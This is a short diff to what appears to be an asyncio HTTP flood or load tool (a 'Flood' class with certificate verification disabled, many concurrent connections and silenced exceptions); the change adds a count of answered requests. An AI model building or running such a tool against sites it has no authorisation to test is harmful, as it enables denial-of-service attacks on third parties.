@@ -34,7 +34,7 @@ class Flood:
         self.port = port
         self.end = end
         self.key = key
-        self.calls = 0
+        self.calls = self.answers = 0
         self.context = ssl.create_default_context()
         self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
 
@@ -172,7 +172,7 @@ async def calls_of_a_site(flood: Flood) -> None:
         answer = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), flood.left())
         length = answer.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
         await reader.readexactly(int(length or 0))
-        flood.calls += 1
+        flood.answers += 1
     writer.close()
 
 
@@ -213,7 +213,7 @@ async def main() -> None:
     workers = [keep_up(flood, KINDS[kind]) for _ in range(min(int(connections), MOST_CONNECTIONS))]
     asyncio.get_running_loop().set_exception_handler(lambda *_: None)
     await asyncio.gather(*workers, return_exceptions=True)
-    print(flood.calls)
+    print(flood.answers or flood.calls)
 
 
 if __name__ == "__main__":
